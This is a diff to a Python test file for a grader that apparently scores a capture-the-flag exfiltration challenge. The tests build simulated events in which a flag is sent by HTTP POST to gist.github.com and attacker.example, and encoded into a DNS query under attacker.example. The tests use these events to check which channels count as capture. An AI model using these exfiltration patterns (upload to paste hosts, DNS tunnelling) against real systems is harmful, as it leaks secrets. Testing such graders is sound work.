@@ -28,6 +28,7 @@ from grader.errors import BackendError, LevelError
 from grader.evidence import Evidence
 from grader.execution import Execution
 from grader.world import load_world
+import fakewire
 
 WORLD = load_world()
 LEVELS = load_levels()
@@ -155,7 +156,7 @@ def test_the_job_plants_the_flag_in_every_file_of_the_level() -> None:
 
 def test_a_flag_at_an_upload_host_captures_and_printing_it_does_not() -> None:
     lv = level(2)
-    got = judge(lv, _ex(http=({"host": "gist.github.com", "method": "POST", "path": "/", "body": FLAG},)), FLAG, world=WORLD)
+    got = judge(lv, _ex(http=(fakewire.http(host="gist.github.com", method="POST", path="/", body=FLAG),)), FLAG, world=WORLD)
     assert got.captured and [(s.host, s.how) for s in got.sinks] == [("gist.github.com", "HTTP POST")] and got.hint == ""
     printed = judge(lv, _ex(output=FLAG), FLAG, world=WORLD)
     assert not printed.captured and printed.sinks == () and printed.output == FLAG
@@ -163,10 +164,10 @@ def test_a_flag_at_an_upload_host_captures_and_printing_it_does_not() -> None:
 
 def test_the_dns_level_counts_only_dns() -> None:
     dns_level = next(lv for lv in LEVELS if lv.channels == ("dns",))
-    http = _ex(http=({"host": "attacker.example", "method": "POST", "path": "/", "body": FLAG},))
+    http = _ex(http=(fakewire.http(host="attacker.example", method="POST", path="/", body=FLAG),))
     got = judge(dns_level, http, FLAG, world=WORLD)
     assert not got.captured and [s.how for s in got.elsewhere] == ["HTTP POST"]
-    dns = judge(dns_level, _ex(dns=({"qname": f"{FLAG[5:-1]}.attacker.example"},)), FLAG, world=WORLD)
+    dns = judge(dns_level, _ex(dns=(fakewire.dns(qname=f"{FLAG[5:-1]}.attacker.example"),)), FLAG, world=WORLD)
     assert dns.captured and dns.sinks[0].how == "DNS"
 
 
@@ -185,7 +186,7 @@ def test_the_final_level_says_why_after_enough_attempts() -> None:
 
 
 def test_the_result_json_is_the_contract() -> None:
-    got = judge(level(1), _ex(output="hi", dns=({"qname": f"{FLAG[5:-1]}.attacker.example"},)), FLAG, world=WORLD)
+    got = judge(level(1), _ex(output="hi", dns=(fakewire.dns(qname=f"{FLAG[5:-1]}.attacker.example"),)), FLAG, world=WORLD)
     data = got.to_json()
     assert list(data) == ["level", "captured", "sinks", "output", "hint"]
     assert data["level"] == 1 and data["captured"] is True and data["output"] == "hi"
